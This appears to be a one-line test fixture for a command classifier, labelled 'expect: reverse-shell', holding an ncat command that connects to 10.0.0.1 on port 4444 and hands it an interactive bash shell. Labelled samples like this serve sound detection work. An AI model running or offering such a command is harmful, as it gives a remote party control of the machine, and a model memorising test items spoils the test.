# expect: reverse-shell
ncat 10.0.0.1 4444 --sh-exec "bash -i"
